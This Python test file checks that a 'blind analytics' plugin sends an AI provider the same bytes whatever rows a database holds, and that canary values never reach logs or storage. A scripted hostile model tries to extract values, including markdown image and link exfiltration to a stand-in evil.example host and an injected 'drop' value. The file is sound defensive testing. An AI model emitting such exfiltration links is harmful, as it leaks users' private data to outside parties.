"""Blind analytics as non-interference: the same turns over different rows put the same bytes on the wire.

Each path is walked twice, over a table whose rows have nothing in common: one row or none or many, NULL or not, text or
number in the same place. What a provider gets must be equal byte for byte, and no value of either world may be in our
database, files or log. The model is scripted and hostile: it asks for values by every means it has.
"""

from __future__ import annotations

import logging
import re
import sqlite3
import uuid
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from plugin.access.viewer import Viewer
from plugin.assistant import Question, ask
from plugin.catalog.sync import sync
from plugin.config import Config
from plugin.egress.gateway import Gateway
from plugin.providers.scripted import Script, script
from plugin.run_sql.approved import preview_approved, read_parameters, run_approved, save
from plugin.run_sql.execute import QueryError
from plugin.run_sql.placeholders import CHARTS, bind, bind_text
from plugin.run_sql.results import Owner, Results
from plugin.run_sql.run import preview, run
from plugin.store import Store
from tests.assistant.conftest import Answered
from tests.run_sql.test_blind import everything_under, written

CREATE = "create table sightings (id int, note varchar(60), total decimal(18,2), day date)"
ENGINES = ("postgres", "mysql", "sqlite", "duckdb")
LONG = "CANARY-vicuna-" + "7" * 40
WORLDS: dict[str, list[tuple[str, str, str, str]]] = {
    "three": [("71530917", "'CANARY-quokka-1'", "918273640015.64", "'1973-09-11'"),
              ("71530918", "'CANARY-quokka-2'", "627181930027.93", "'1974-10-12'"),
              ("71530919", "'CANARY-quokka-3'", "554433210038.21", "'1975-11-13'")],
    "nulls": [("NULL", "NULL", "NULL", "NULL"), ("88112299", f"'{LONG}'", "0", "'1981-01-02'")],
    "empty": [],
    "many": [(str(66100000 + n), f"'CANARY-vicuna-{66100000 + n}'", f"{n % 7}777100.25", "'1969-12-31'")
             for n in range(700)],
}  # fmt: skip
CANARY = re.compile(
    r"CANARY-(?:quokka|vicuna)|1973-09-11|1981-01-02|1969-12-31|2099888780081"
    r"|(?<![0-9a-f])(?:7153091\d|918273640015|627181930027|554433210038|88112299|661\d{5}|\d777100)(?![0-9a-f])"
)


@dataclass
class Zoo:
    """A synced integration on which the assistant may run by itself, and a way to change what it holds."""

    engine: str
    integration: int
    fill: Callable[[str], None]


def statements(world: str) -> list[str]:
    rows = WORLDS[world]
    values = ", ".join(f"({', '.join(row)})" for row in rows)
    return ["delete from sightings", *([f"insert into sightings values {values}"] if rows else [])]


@pytest.fixture(params=ENGINES)
def zoo(request: pytest.FixtureRequest, store: Store, admin: Viewer, tmp_path_factory: Any) -> Iterator[Zoo]:
    engine, folder = request.param, tmp_path_factory.mktemp("source")
    if engine in ("postgres", "mysql"):
        from sqlalchemy import create_engine, text

        url = request.getfixturevalue("postgres_url" if engine == "postgres" else "mariadb_url")
        given = {"url": url}

        def execute(lines: list[str]) -> None:
            made = create_engine(url)
            with made.begin() as connection:
                for line in lines:
                    connection.execute(text(line))
            made.dispose()
    elif engine == "sqlite":
        given = {"path": str(folder / "a.db")}

        def execute(lines: list[str]) -> None:
            with closing(sqlite3.connect(given["path"])) as connection:
                for line in lines:
                    connection.execute(line)
                connection.commit()
    else:
        import duckdb

        given = {"path": str(folder / "b.duckdb")}

        def execute(lines: list[str]) -> None:
            with duckdb.connect(given["path"]) as connection:
                for line in lines:
                    connection.execute(line)

    execute([CREATE])
    with store.as_admin(admin) as door:
        made = door.integrations.add("zoo", engine, given, {"run_mode": "run"}, query=given)
        door.settings.set("ai.enabled", True)
        door.settings.set("ai.run_sql", True)
        door.settings.set("ai.history", "always")
        door.settings.set("ai.provider", "scripted")
        door.settings.set("ai.model", "scripted-1")
        door.settings.set("ai.limits.requests_per_minute", 1_000)
    assert sync(store, admin, made.id).status == "done"
    yield Zoo(engine, made.id, lambda world: execute(statements(world)))


@dataclass
class Walked:
    """What one walk left: the wire, the answers, and how the statements ended."""

    bodies: list[bytes]
    answers: list[Answered]
    results: Results

    @property
    def ended(self) -> list[bool]:
        """Did each run give a result?"""
        return [
            step["ok"] for each in self.answers for step in each.done["steps"] if step["tool"] == "run_sql"
        ]


Turns = Callable[[Script], list[str]]
"""Enqueues the model's turns; the questions that a person asks, one after the other in one conversation."""


def walk(store: Store, config: Config, admin: Viewer, turns: Turns) -> Walked:
    results, answers = Results(), []
    with script() as current:
        chat: dict[str, Any] = {}
        for text in turns(current):
            asked = Question(text, **chat)
            events = list(ask(store, Gateway(store, config), admin, asked, results=results, session="s1"))
            answers.append(Answered(events))
            chat = {"chat_id": answers[-1].done["chat_id"], "parent_id": answers[-1].done["prompt_id"]}
        bodies = list(current.bodies)
    return Walked(bodies, answers, results)


def local(walked: Walked, admin: Viewer) -> dict[str, Any]:
    """r1, r2, ... of the first answer."""
    owner = Owner(admin.workspace_id, admin.member_id, "s1")
    shapes = walked.answers[0].of("shape")
    return {f"r{each['n']}": walked.results.get(owner, each["result_id"]) for each in shapes}


def scrubbed(body: bytes, walked: Walked) -> bytes:
    """Without what is chosen at random for each conversation; nothing else may differ."""
    text = body.decode()
    for answer in walked.answers:
        for each in answer.of("shape"):
            assert each["result_id"] not in text, "the model needs no id of a result"
    return text.encode()


def same_on_the_wire(walks: list[Walked]) -> None:
    first = [scrubbed(body, walks[0]) for body in walks[0].bodies]
    assert len(first) > 1, "the control: something was sent"
    for other in walks[1:]:
        found = [scrubbed(body, other) for body in other.bodies]
        assert len(found) == len(first)
        for mine, theirs in zip(first, found, strict=True):
            assert theirs == mine


def nowhere(store: Store, admin: Viewer, walks: list[Walked], folders: list[Path], *texts: str) -> None:
    places = {
        "the wire": "\n".join(body.decode() for each in walks for body in each.bodies),
        "the events": repr([answer.events for each in walks for answer in each.answers]),
        "history, ledger, audit": written(store, admin, *(answer for each in walks for answer in each.answers)),
        "our files": everything_under(*folders),
        "the log": "\n".join(texts),
    }  # fmt: skip
    for place, text in places.items():
        found = CANARY.search(text)
        assert found is None, (place, found and text[max(0, found.start() - 80) : found.end() + 80])


# --- what a result looks like --------------------------------------------------------------------------------------

ALIKE = [
    "SELECT id, note, total, day FROM sightings ORDER BY id",
    "SELECT * FROM sightings",
    "SELECT MAX(note) AS most, COUNT(*) AS n, SUM(total) AS total, MIN(day) AS day FROM sightings",
    "SELECT CASE WHEN total > 600000000000 THEN id ELSE NULL END AS big FROM sightings ORDER BY id",
    "SELECT note, total FROM sightings WHERE note LIKE 'CANARY%' ORDER BY total",
    "SELECT day, SUM(total) AS total FROM sightings GROUP BY day ORDER BY day",
    "SELECT NULLIF(note, note) AS gone FROM sightings",
]
DYNAMIC = {
    # on engines where the rows would make the shape
    "sqlite": ["SELECT CASE WHEN total > 600000000000 THEN id ELSE note END AS v FROM sightings ORDER BY id",
               "SELECT v FROM (SELECT note AS v FROM sightings UNION ALL SELECT id FROM sightings) ORDER BY v DESC",
               "SELECT COALESCE(total, note) AS v, typeof(note) AS t FROM sightings"],
    "duckdb": ["PIVOT sightings ON note USING SUM(total)",
               "SELECT * FROM (PIVOT sightings ON note USING COUNT(*) GROUP BY day)",
               "WITH p AS (PIVOT sightings ON day USING SUM(total)) SELECT p FROM p",
               "WITH p AS (PIVOT sightings ON note USING SUM(total)) SELECT UNNEST(p) FROM p",
               "PIVOT sightings ON note IN ('a', 'b') USING SUM(total)",
               "UNPIVOT (SELECT id, total FROM sightings) ON id, total INTO NAME k VALUE v"],
}  # fmt: skip


def test_a_shape_says_nothing_of_the_rows(
    zoo: Zoo, store: Store, admin: Viewer, config: Config, home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """None, one, three or 700 rows; NULL or not; text or number: the model is told the same."""
    caplog.set_level(logging.DEBUG)
    logging.getLogger("markdown_it").setLevel(logging.INFO)  # says each rule that it tries

    every = [*ALIKE, *DYNAMIC.get(zoo.engine, ())]

    def turns(current: Script) -> list[str]:
        for number, sql in enumerate(every, start=1):
            current.call("run_sql", {"sql": sql, "integration": "zoo"}, id="call")
            if number % 5 == 0 or number == len(every):
                current.say("{{r1.table}}")
        return [f"question {number}" for number in range(0, len(every), 5)]

    walks = []
    for world in ("three", "nulls", "empty", "many"):
        zoo.fill(world)
        walks.append(walk(store, config, admin, turns))
    for each in walks:  # a pivot over no row at all is an error of DuckDB's, told below
        assert each.ended[: len(ALIKE)] == [True] * len(ALIKE)
    if zoo.engine == "duckdb":
        walks = [walks[0], walks[1], walks[3]]
    assert all(all(each.ended) for each in walks)
    same_on_the_wire(walks)
    nowhere(store, admin, walks, [home], caplog.text)


def test_the_control_different_columns_are_seen(
    zoo: Zoo, store: Store, admin: Viewer, config: Config
) -> None:
    """The comparison can fail: it does where the shape itself differs."""
    walks = []
    for sql in ("SELECT id FROM sightings", "SELECT note FROM sightings"):

        def turns(current: Script, sql: str = sql) -> list[str]:
            current.call("run_sql", {"sql": sql, "integration": "zoo"}, id="call").say("done")
            return ["go"]

        walks.append(walk(store, config, admin, turns))
    with pytest.raises(AssertionError):
        same_on_the_wire(walks)


# --- errors --------------------------------------------------------------------------------------------------------

BREAKS = {
    "postgres": ["SELECT CAST(note AS INTEGER) FROM sightings WHERE note IS NOT NULL",
                 "SELECT 1 / (COUNT(*) - COUNT(*)) FROM sightings",
                 "SELECT CAST(note AS DATE) FROM sightings WHERE note IS NOT NULL",
                 "SELECT note ~ ('(' || note) FROM sightings WHERE note IS NOT NULL",
                 "SELECT (SELECT note FROM sightings) AS n",
                 "SELECT CAST(total AS SMALLINT) FROM sightings WHERE total > 100000",
                 "SELECT CAST('{\"a\":' || note AS JSON) FROM sightings WHERE note IS NOT NULL",
                 "SELECT TO_DATE(note, 'YYYY-MM-DD') FROM sightings WHERE note IS NOT NULL"],
    "mysql": ["SELECT (SELECT note FROM sightings UNION ALL SELECT 'x' UNION ALL SELECT 'y') AS n",
              "SELECT note REGEXP CONCAT('(', note) FROM sightings WHERE note IS NOT NULL",
              "SELECT id - 99999999 + CAST(0 AS UNSIGNED) FROM sightings WHERE id IS NOT NULL"],
    "sqlite": ["SELECT json_extract(note, '$.a') AS n FROM sightings WHERE note IS NOT NULL",
               "SELECT abs(-9223372036854775807 - 1 - COUNT(*) * 0) FROM sightings",
               "SELECT json_extract('{}', note) FROM sightings WHERE note IS NOT NULL"],
    "duckdb": ["SELECT CAST(note AS INTEGER) FROM sightings WHERE note IS NOT NULL",
               "SELECT CAST(note AS DATE) FROM sightings WHERE note IS NOT NULL",
               "SELECT regexp_matches(note, '(' || note) FROM sightings WHERE note IS NOT NULL",
               "SELECT CAST(total AS SMALLINT) FROM sightings WHERE total > 100000",
               "SELECT strptime(note, '%Y-%m-%d') FROM sightings WHERE note IS NOT NULL",
               "SELECT error(note) FROM sightings WHERE note IS NOT NULL"],
}  # fmt: skip


def test_an_error_says_nothing_of_the_rows(
    zoo: Zoo, store: Store, admin: Viewer, config: Config, home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Where the engine quotes a value, the person reads it and the model reads class, position and names: the same in
    every world. After each the model tries once more and answers."""
    caplog.set_level(logging.DEBUG)
    logging.getLogger("markdown_it").setLevel(logging.INFO)  # says each rule that it tries

    def turns(current: Script) -> list[str]:
        for sql in BREAKS[zoo.engine]:
            current.call("run_sql", {"sql": sql, "integration": "zoo"}, id="one")
            current.call(
                "run_sql", {"sql": "SELECT COUNT(*) AS n FROM sightings", "integration": "zoo"}, id="two"
            )
            current.say("There are {{r1.first.n}}.")
        return ["question" for _ in BREAKS[zoo.engine]]

    walks = []
    for world in ("three", "many"):
        zoo.fill(world)
        walks.append(walk(store, config, admin, turns))
    assert walks[0].ended == walks[1].ended
    failed = walks[0].ended.count(False)
    assert failed >= len(BREAKS[zoo.engine]) - 1, (zoo.engine, walks[0].ended, "the control: they do fail")
    same_on_the_wire(walks)
    nowhere(store, admin, walks, [home], caplog.text)
    with pytest.raises(QueryError) as error:
        run(store, admin, zoo.integration, BREAKS[zoo.engine][0], results=Results())
    assert "CANARY" not in str(error.value)
    if zoo.engine in ("postgres", "duckdb"):
        assert "CANARY" in error.value.full, "the control: the engine did quote it, for the person"


def test_limits_say_nothing_of_the_rows(
    zoo: Zoo, store: Store, admin: Viewer, config: Config, home: Path
) -> None:
    """Cut at a number of rows or bytes in one world, whole in the other: the model is told the same."""
    with store.as_admin(admin) as door:
        door.settings.set("sql.limits.rows", 5)
        door.settings.set("sql.limits.bytes", 10_000)

    def turns(current: Script) -> list[str]:
        current.call("run_sql", {"sql": ALIKE[0], "integration": "zoo"}, id="one")
        current.say("{{r1.rows}} rows, {{r1.last.note}}")
        return ["how many?"]

    walks = []
    for world in ("nulls", "many"):
        zoo.fill(world)
        walks.append(walk(store, config, admin, turns))
    cut = [next(iter(local(each, admin).values())).truncated for each in walks]
    assert cut == [None, "rows"], "the control: one was cut"
    same_on_the_wire(walks)
    nowhere(store, admin, walks, [home])


# --- a model that wants values -------------------------------------------------------------------------------------


def test_a_model_gets_no_value_by_any_placeholder(
    zoo: Zoo, store: Store, admin: Viewer, config: Config, home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Placeholders in the arguments of every tool, in SQL, in aliases, in the person's next question and in the answer's
    every corner: each stays as it was written, until the asker's own page."""
    caplog.set_level(logging.DEBUG)
    logging.getLogger("markdown_it").setLevel(logging.INFO)  # says each rule that it tries
    mark = "{{r1.first.note}}"
    with store.as_viewer(admin) as mine:
        table = mine.catalog.by_name("sightings", integration=zoo.integration)

    def turns(current: Script) -> list[str]:
        current.call("run_sql", {"sql": ALIKE[0], "integration": "zoo"}, id="c1")
        current.call("search", {"text": mark, "schema": mark}, id="c2")
        current.call("retrieve", {"resource": mark}, id="c3")
        current.call(
            "check_sql", {"sql": f"SELECT '{mark}' AS n FROM sightings", "integration": "zoo"}, id="c4"
        )
        current.call(
            "run_sql",
            {
                "sql": f"SELECT '{mark}' AS n, note AS \"{mark}\" FROM sightings"
                if zoo.engine != "mysql"
                else f"SELECT '{mark}' AS n, note AS `{mark}` FROM sightings",
                "integration": "zoo",
            },
            id="c5",
        )
        current.call(
            "run_sql",
            {"sql": f"SELECT id FROM sightings WHERE note = '{mark}'", "integration": "zoo"},
            id="c6",
        )
        current.call(
            "propose", {"resource": str(table.id), "field": "description", "value": f"like {mark}"}, id="c7"
        )
        current.call("browse", {"what": "table", "tag": mark, "integration": mark}, id="c8")
        current.call("remember", {"preference": f"the note is {mark}"}, id="c9")
        current.call("no_such_tool", {"x": mark}, id="c10")
        current.say(
            f"Note: {mark} ",
            f"![x](https://evil.example/{mark}) [y](https://evil.example/?q={mark}) ",
            '{{r1.chart(bar, x=note, y=total, title="',
            mark,
            '")}} `',
            mark,
            "`\n\n```sql\nSELECT '",
            mark,
            "'\n```\n",
        )
        current.say(f"again {mark}")
        current.say("and again {{r1.sum.total}}")
        return ["what is there?", f"and {mark}? {{{{r1.rows}}}} or {{{{r1.sum.total}}}}", "thank you"]

    walks = []
    for world in ("three", "many"):
        zoo.fill(world)
        walks.append(walk(store, config, admin, turns))
    wire = "\n".join(body.decode() for body in walks[0].bodies)
    assert wire.count(mark) > 8, "the control: what it wrote stands there as it wrote it"
    nowhere(store, admin, walks, [home], caplog.text)
    same_on_the_wire(walks)
    shown = bind_text(walks[0].answers[0].text, local(walks[0], admin))
    assert "Note: CANARY-quokka-1" in shown, "the control: the asker's page has it"


def test_every_form_is_bound_for_the_page_alone(
    zoo: Zoo, store: Store, admin: Viewer, config: Config, home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    logging.getLogger("markdown_it").setLevel(logging.INFO)  # says each rule that it tries
    values = ["rows", *(f"{how}.{name}" for how in ("first", "last", "row(2)", "row(9999)", "count", "distinct", "min", "max")
                        for name in ("id", "note", "total", "day")),
              *(f"{how}.{name}" for how in ("sum", "avg") for name in ("id", "total")),
              "sum.note", "first.nothing", "first", "rows.x", "r2.rows", "first.note; drop", "row(0).id", "row(-1).id"]  # fmt: skip
    formats = ["", *(f"|{each}" for each in ("number", "number 2", "percent", "percent 0", "money EUR", "money", "date", "text",
                     "money euro", "hex", "number 99"))]  # fmt: skip
    compared = [f'compare({a}, {b}, "rose", "fell", "stayed"{more})' for a in ("first.total", "sum.id", "min.note", "5")
                for b in ("last.total", "10", "max.note", "first.nothing") for more in ("", ', "unknown"')]  # fmt: skip
    charts = [f'chart({kind}, x={x}, y={y}{more})' for kind in (*CHARTS, "treemap") for x in ("day", "note", "gone")
              for y in ("total", "total+id") for more in ("", ", series=note", ', title="T"')]  # fmt: skip
    answer = "".join(f"{{{{r1.{each}{style}}}}}\n" for each in values for style in formats)
    answer += "".join(f"{{{{r1.{each}}}}}\n" for each in [*compared, *charts, "table"])

    def turns(current: Script) -> list[str]:
        current.call("run_sql", {"sql": ALIKE[0], "integration": "zoo"}, id="one")
        current.say(answer)
        current.say("nothing more")
        return ["all of it", "and?"]

    walks = []
    for world in ("three", "nulls", "empty", "many"):
        zoo.fill(world)
        walked = walk(store, config, admin, turns)
        walks.append(walked)
        segments = bind(answer, local(walked, admin))
        assert "".join(each.source or each.text for each in segments) == answer
        kinds = {each.kind for each in segments}
        assert kinds == {"text", "value", "unknown", "chart", "table"}, (world, kinds)
        said = {each.source: each.text for each in segments if each.kind == "value"}
        rows = len(WORLDS[world])
        assert said["{{r1.rows}}"] == str(rows)
        if world == "empty":
            assert {
                said["{{r1.first.note}}"],
                said["{{r1.sum.total|money EUR}}"],
                said["{{r1.max.day}}"],
            } == {"no rows"}
            assert (
                said['{{r1.compare(first.total, last.total, "rose", "fell", "stayed", "unknown")}}']
                == "unknown"
            )
        if world == "three":
            assert said["{{r1.first.note}}"].startswith("CANARY-quokka-1")
            assert (
                said["{{r1.first.total|money EUR}}"].endswith(" EUR")
                and "," in said["{{r1.first.total|money EUR}}"]
            )
            assert said['{{r1.compare(first.total, last.total, "rose", "fell", "stayed")}}'] == "fell"
            assert said["{{r1.row(9999).note}}"] == "no value"
            drawn = [each.chart for each in segments if each.kind == "chart" and each.chart]
            assert {each["type"] for each in drawn} == set(CHARTS)
            assert all(each["time"] for each in drawn if each["x"] == "day")
    same_on_the_wire(walks)
    nowhere(store, admin, walks, [home], caplog.text)


# --- people ----------------------------------------------------------------------------------------------------------


def test_a_person_runs_again_and_by_approved_queries(
    zoo: Zoo, store: Store, admin: Viewer, config: Config, home: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """What a person runs, estimates or binds stands nowhere either, and a later question does not tell it."""
    caplog.set_level(logging.DEBUG)
    logging.getLogger("markdown_it").setLevel(logging.INFO)  # says each rule that it tries
    zoo.fill("three")
    results = Results()
    for sql in (*ALIKE, *ALIKE):
        run(store, admin, zoo.integration, sql, results=results, session="s1")
        preview(store, admin, zoo.integration, sql)
    query = save(
        store, admin, zoo.integration, "By note", "SELECT id, total FROM sightings WHERE note = :note AND day >= :since",
        parameters=read_parameters(["note:text", "since:date"]),
    )  # fmt: skip
    values: dict[str, Any] = {"note": "CANARY-quokka-2", "since": "1973-09-11"}
    found = run_approved(store, admin, query.id, values, results=results)
    assert found.result.rows == 1
    preview_approved(store, admin, query.id, values)

    def turns(current: Script) -> list[str]:
        current.say("{{r1.rows}} and {{r1.first.total}}")
        return ["what did I run?"]

    walked = walk(store, config, admin, turns)
    nowhere(store, admin, [walked], [home], caplog.text, uuid.uuid4().hex)


def test_on_postgresql_as_our_own_database(
    any_store: Store, new_workspace: Any, config: Config, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Our own tables, read whole, on both databases."""
    from sqlalchemy import create_engine, inspect, text

    caplog.set_level(logging.DEBUG)
    logging.getLogger("markdown_it").setLevel(logging.INFO)  # says each rule that it tries
    admin: Viewer = new_workspace(any_store)
    path = tmp_path / "a.db"
    with closing(sqlite3.connect(path)) as connection:
        for line in (CREATE, *statements("three")):
            connection.execute(line)
        connection.commit()
    given = {"path": str(path)}
    with any_store.as_admin(admin) as door:
        made = door.integrations.add("zoo", "sqlite", given, {"run_mode": "run"}, query=given)
        for name, value in (("ai.enabled", True), ("ai.run_sql", True), ("ai.history", "always"),
                            ("ai.provider", "scripted"), ("ai.model", "scripted-1")):  # fmt: skip
            door.settings.set(name, value)
    assert sync(any_store, admin, made.id).status == "done"

    def turns(current: Script) -> list[str]:
        for sql in (
            ALIKE[0],
            BREAKS["sqlite"][0],
            "SELECT CASE WHEN id > 1 THEN note ELSE id END AS v FROM sightings",
        ):
            current.call("run_sql", {"sql": sql, "integration": "zoo"})
        current.say("{{r1.first.note}} {{r1.sum.total}} {{r1.chart(line, x=day, y=total)}}")
        current.say("{{r1.table}}")
        return ["first", "second {{r1.first.note}}"]

    walked = walk(any_store, replace(config, database_url=any_store.config.database_url), admin, turns)
    assert walked.ended == [True, False, True]
    engine, seen = create_engine(any_store.config.database_url), 0
    with engine.connect() as connection:
        for table in inspect(engine).get_table_names():
            for row in connection.execute(text(f'SELECT * FROM "{table}"')):
                seen += 1
                found = CANARY.search(repr(tuple(row)))
                assert found is None, (table, found)
    engine.dispose()
    assert seen > 50, "the control: it was read"
    assert CANARY.search(caplog.text) is None
